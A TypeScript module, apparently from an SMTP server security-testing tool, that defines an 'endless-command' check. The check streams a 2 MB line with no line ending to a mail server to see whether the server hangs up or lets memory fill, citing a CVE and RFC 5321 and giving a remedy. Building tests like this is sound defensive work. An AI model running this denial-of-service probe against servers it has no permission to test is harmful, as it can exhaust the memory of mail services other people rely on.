import { type Attack, isFailure, type Verdict } from '../attack.ts';
import { notRun } from '../outcome.ts';
import { brokenWords, play } from '../play.ts';
import { quoteReply } from '../pulse.ts';
import { hello, script } from '../script.ts';
import { playOn } from '../scripted.ts';

/** Bytes of the line, and of a piece of it. */
const LENGTH = 2_097_152;
const PIECE = 65_536;

/** Sends one line that does not end, and looks when the server has enough. */
export const endlessCommand: Attack = {
  name: 'endless-command',
  title: 'Sends a line that does not end',
  threat: 'attack/overflow',
  control: 'edge/hard-limits',
  severity: 'medium',
  gain: 'A few connections fill the memory of a server that keeps what it reads until the line ends (CVE-2026-38728 of smtp-server).',
  remedy: [{ platform: '*', text: 'Hang up once a line is longer than its limit; do not wait for its end.' }],
  references: ['RFC 5321 §4.5.3.1.4', 'RFC 5321 §4.5.3.1.10'],
  cost: { connections: 2, messages: 0, bytes: LENGTH, seconds: 5 },
  async play(field): Promise<Verdict> {
    const { facts } = field;
    const control = await playOn(field, script(hello(facts), 'C: NOOP', 'S: 2*'));
    if (typeof control === 'string') return notRun(control);
    if (!control.through) return notRun(`NOOP is not answered either (${control.words})`, control.lines);
    const opened = await field.open();
    if (isFailure(opened)) return notRun(`no connection could be had: ${brokenWords(opened)}`);
    try {
      const begun = await play(opened, hello(facts), facts);
      if (!begun.through) return notRun(begun.words, begun.lines);
      const piece = Buffer.alloc(PIECE, 'x');
      const verdict = (outcome: Verdict['outcome'], because: string): Verdict => ({
        outcome,
        at: 'command',
        because,
        dialogues: [[...opened.lines], control.lines],
      });
      for (let sent = 0; sent < LENGTH; sent += PIECE) {
        opened.send(piece);
        const heard = await opened.hear(5);
        if (heard === null) continue;
        return verdict(
          'stopped',
          `after ${sent + PIECE} bytes: ${heard.ok ? quoteReply(heard.reply) : brokenWords(heard)}`,
        );
      }
      opened.send(Buffer.from('\r\n'));
      const answer = await opened.reply(facts.patience);
      if (!answer.ok) return verdict('stopped', `it read ${LENGTH} bytes, and then ${brokenWords(answer)}`);
      if (answer.reply.code >= 400)
        return verdict('contained', `it read all ${LENGTH} bytes before it said ${quoteReply(answer.reply)}`);
      return verdict('passed', `it took a line of ${LENGTH} bytes: ${quoteReply(answer.reply)}`);
    } finally {
      opened.close();
    }
  },
};
